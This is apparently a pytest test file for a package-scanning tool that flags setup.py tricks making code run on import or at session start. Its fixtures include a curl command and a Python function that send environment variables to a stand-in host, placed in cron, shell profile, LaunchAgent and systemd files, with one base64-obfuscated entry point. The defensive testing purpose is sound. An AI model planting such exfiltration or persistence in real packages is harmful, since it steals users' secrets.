"""What a setup.py works out and hands over runs at its own moment: entry points, files of data, addresses."""

import pytest
from program_of import program_of

from ostiary.core.coverage import Reach
from ostiary.program.flow import Act, Taint
from ostiary.program.model import Program

SENDS = "env | curl -d @- https://c.example.invalid/"
GO = (
    "import os, urllib.request\ndef {}(*a, **k):\n"
    "    urllib.request.urlopen('https://c.example.invalid/', data=str(dict(os.environ)).encode())\n"
)
SETUP = "import os\nfrom setuptools import setup\n{}\nsetup(name='sample', version='1.0', {})\n"


def sent(program: Program) -> set[tuple[str, Reach]]:
    """The files that send the environment, and when."""
    several = [one for one in program.flows if one.act is Act.SEND and one.has(Taint.ENVIRONMENT)]
    return {(one.at.path.removeprefix("sample-1.0/"), one.reach) for one in several}


@pytest.mark.parametrize(
    ("before", "points"),
    [
        ("points = {}; points['setup' + 'tools.file_finders'] = ['a = sample.m:go']", "points"),
        (
            "import base64; p = base64.b64decode('W2tleXJpbmcuYmFja2VuZHNdCmE9c2FtcGxlLm06Z28K')",
            "p",
        ),
        ("", "open('points.ini').read()"),
    ],
)
def test_entry_points_that_are_worked_out(before: str, points: str) -> None:
    text = points if points != "p" else "p.decode()"
    files = {
        "setup.py": SETUP.format(before, f"entry_points={text}"),
        "points.ini": "[setuptools.file_finders]\na = sample.m:go\n",
        "sample/__init__.py": "",
        "sample/m.py": GO.format("go"),
    }
    assert ("sample/m.py", Reach.IMPORT) in sent(program_of("sdist", files))
    plain = {"console" + "_scripts": ["a = sample.m:go"]}
    files["setup.py"] = SETUP.format(f"points = {plain!r}", "entry_points=points")
    assert ("sample/m.py", Reach.IMPORT) not in sent(program_of("sdist", files))


@pytest.mark.parametrize(
    ("before", "put", "name", "text"),
    [
        ("", "('etc/profile.d', glob('sh/*.sh'))", "sh/a.sh", f"{SENDS}\n"),
        ("", "(os.path.expanduser('~'), ['sh/.bashrc'])", "sh/.bashrc", f"{SENDS}\n"),
        ("", "('/etc/cron.d', ['job'])", "job", f"* * * * * root {SENDS}\n"),
        ("", "('/Library/LaunchAgents', ['a.plist'])", "a.plist", f"<string>{SENDS}</string>"),
        (
            "home = os.path.expanduser('~/.config/systemd/user')",
            "(home, ['a.service'])",
            "a.service",
            f"[Service]\nExecStart={SENDS}\n",
        ),
    ],
)
def test_data_files_that_sessions_run(before: str, put: str, name: str, text: str) -> None:
    files = {"setup.py": SETUP.format(before, f"data_files=[{put}]"), name: text}
    assert (name, Reach.START) in sent(program_of("sdist", files))
    aside = SETUP.format(before, "data_files=[('share/sample', ['" + name + "'])]")
    assert (name, Reach.START) not in sent(program_of("sdist", {**files, "setup.py": aside}))


def test_a_folder_that_becomes_what_every_start_runs() -> None:
    setup = SETUP.format("", "package_dir={'': 'more'}, py_modules=['sitecustomize']")
    files = {"setup.py": setup, "more/sitecustomize.py": GO.format("go") + "go()\n"}
    assert ("more/sitecustomize.py", Reach.START) in sent(program_of("sdist", files))
    files["setup.py"] = SETUP.format("", "package_dir={'sample': 'more'}, packages=['sample']")
    assert ("more/sitecustomize.py", Reach.START) not in sent(program_of("sdist", files))


def test_a_requirement_by_an_address_that_is_put_together() -> None:
    def installs(words: str) -> list[str]:
        program = program_of("sdist", {"setup.py": SETUP.format("", words)})
        return [one.text for one in program.flows if one.act is Act.RUN]

    assert installs("install_requires=['a @ ' + 'https://c.example.invalid/a.tgz']") == [
        "pip install https://c.example.invalid/a.tgz"
    ]
    assert not installs("install_requires=['a @ https://c.example.invalid/a.tgz', 'b' + '>1']")


@pytest.mark.parametrize(
    "folder",
    ["other.egg-info", "sample-1.0.data/purelib/other.egg-info", "other-1.0.dist-info"],
)
def test_entry_points_in_metadata_of_another_name(folder: str) -> None:
    files = {
        "sample/__init__.py": "",
        "sample/m.py": GO.format("go"),
        "sample-1.0.dist-info/METADATA": "Name: sample\nVersion: 1.0\n",
        "sample-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\n",
        f"{folder}/entry_points.txt": "[keyring.backends]\na = sample.m:go\n",
    }
    assert sent(program_of("wheel", files)) == {("sample/m.py", Reach.IMPORT)}
    files[f"{folder}/entry_points.txt"] = "[console_scripts]\na = sample.m:go\n"
    assert sent(program_of("wheel", files)) == {("sample/m.py", Reach.CALL)}


def test_an_index_of_a_stranger_for_what_a_setup_script_needs() -> None:
    for text, count in (("index_url = https://c.example.invalid/simple", 1), ("zip_ok = 0", 0)):
        files = {"setup.py": SETUP.format("", ""), "setup.cfg": f"[easy_install]\n{text}\n"}
        program = program_of("sdist", files)
        assert len([one for one in program.flows if one.act is Act.RUN]) == count
